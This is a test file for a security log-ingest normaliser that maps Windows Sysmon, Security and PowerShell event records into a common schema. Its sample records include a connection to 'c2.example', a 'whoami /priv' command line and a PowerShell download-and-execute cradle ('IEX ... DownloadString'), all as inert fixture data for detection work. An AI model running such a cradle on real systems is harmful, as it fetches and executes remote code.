import { describe, expect, it } from "vitest";
import { normaliseRecord } from "../../../../worker/ingest/normalise.ts";
import { ctx, errorOf, eventOf } from "../helpers.ts";

const sysmonNetwork = {
  Channel: "Microsoft-Windows-Sysmon/Operational",
  EventID: 3,
  Computer: "ws01.corp.local",
  UtcTime: "2024-01-02 03:04:05.678",
  TimeCreated: "/Date(1704164646000)/",
  Image: "C:\\Windows\\System32\\rundll32.exe",
  User: "CORP\\alice",
  Protocol: "tcp",
  SourceIp: "10.0.0.5",
  SourcePort: 51234,
  DestinationIp: "2001:db8::10",
  DestinationHostname: "c2.example",
  DestinationPort: "443",
};

const logon4624 = {
  Channel: "Security",
  EventID: "4624",
  Computer: "dc01.corp.local",
  TimeCreated: "2024-01-02T03:04:05.1234567Z",
  SubjectUserName: "DC01$",
  TargetUserName: "alice",
  TargetDomainName: "CORP",
  LogonType: 3,
  IpAddress: "::1",
  IpPort: "0",
  ProcessName: "C:\\Windows\\System32\\lsass.exe",
};

describe("flat EVTX-style agent records", () => {
  it("maps a Sysmon network connection, preferring UtcTime over TimeCreated", () => {
    const event = eventOf(normaliseRecord(sysmonNetwork, ctx));
    expect(event).toEqual({
      ts: Date.UTC(2024, 0, 2, 3, 4, 5, 678),
      host: "ws01.corp.local",
      source: "evtx",
      dataset: "windows.sysmon_operational",
      eventCode: "3",
      category: "network",
      action: "network_connection",
      outcome: null,
      user: "CORP\\alice",
      process: "C:\\Windows\\System32\\rundll32.exe",
      commandLine: null,
      parentProcess: null,
      srcIp: "10.0.0.5",
      srcPort: 51234,
      dstIp: "2001:db8::10",
      dstPort: 443,
      fields: { ...sysmonNetwork },
      raw: sysmonNetwork,
    });
  });

  it("maps a Security logon: string EventID stored as a number, 7-digit fraction, '::1' kept", () => {
    const event = eventOf(normaliseRecord(logon4624, ctx));
    expect(event).toMatchObject({
      ts: Date.parse("2024-01-02T03:04:05.123Z"),
      host: "dc01.corp.local",
      dataset: "windows.security",
      eventCode: "4624",
      category: "authentication",
      action: "logon",
      outcome: "success",
      user: "alice",
      process: "C:\\Windows\\System32\\lsass.exe",
      srcIp: "::1",
      srcPort: 0,
    });
    expect(event.fields.EventID).toBe(4624);
    expect(event.fields.TargetDomainName).toBe("CORP");
  });

  it("reads PowerShell 5.1's /Date(ms)/ TimeCreated, also in its wrapped object form", () => {
    const plain = { ...logon4624, TimeCreated: "/Date(1700000000000)/" };
    const wrapped = {
      ...logon4624,
      TimeCreated: { value: "/Date(1700000000000)/", DateTime: "Tuesday, 14 November 2023" },
    };
    expect(eventOf(normaliseRecord(plain, ctx)).ts).toBe(1_700_000_000_000);
    expect(eventOf(normaliseRecord(wrapped, ctx)).ts).toBe(1_700_000_000_000);
  });

  it("marks a 4625 as a failed logon and drops '-' addresses", () => {
    const event = eventOf(normaliseRecord({ ...logon4624, EventID: 4625, IpAddress: "-", IpPort: "-" }, ctx));
    expect(event).toMatchObject({ action: "logon_failed", outcome: "failure", srcIp: null, srcPort: null });
  });

  it("uses the Subject as user outside logons and NewProcessName/ParentProcessName for 4688", () => {
    const event = eventOf(
      normaliseRecord(
        {
          Channel: "Security",
          EventID: 4688,
          Computer: "ws01",
          TimeCreated: "2024-01-02T03:04:05Z",
          SubjectUserName: "alice",
          TargetUserName: "-",
          NewProcessName: "C:\\Windows\\System32\\whoami.exe",
          CommandLine: "whoami /priv",
          ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
        },
        ctx,
      ),
    );
    expect(event).toMatchObject({
      category: "process",
      action: "process_creation",
      user: "alice",
      process: "C:\\Windows\\System32\\whoami.exe",
      commandLine: "whoami /priv",
      parentProcess: "C:\\Windows\\System32\\cmd.exe",
    });
  });

  it("maps PowerShell 4104 script blocks", () => {
    const event = eventOf(
      normaliseRecord(
        {
          Channel: "Microsoft-Windows-PowerShell/Operational",
          EventID: 4104,
          Computer: "ws01",
          TimeCreated: "2024-01-02T03:04:05Z",
          ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        },
        ctx,
      ),
    );
    expect(event).toMatchObject({
      dataset: "windows.powershell_operational",
      category: "process",
      action: "ps_script",
    });
  });

  it("rejects a record without UtcTime or TimeCreated", () => {
    const { UtcTime: _u, TimeCreated: _t, ...untimed } = sysmonNetwork;
    expect(errorOf(normaliseRecord(untimed, ctx))).toBe("no parsable timestamp (looked for UtcTime, TimeCreated)");
  });

  it("rejects an unparsable UtcTime, naming the field", () => {
    expect(errorOf(normaliseRecord({ ...sysmonNetwork, UtcTime: "xyz" }, ctx))).toBe(
      "timestamp 'xyz' in field 'UtcTime' is not a date",
    );
  });

  it("rejects a non-numeric EventID", () => {
    expect(errorOf(normaliseRecord({ ...logon4624, EventID: "logon" }, ctx))).toBe("EventID 'logon' is not a number");
  });
});
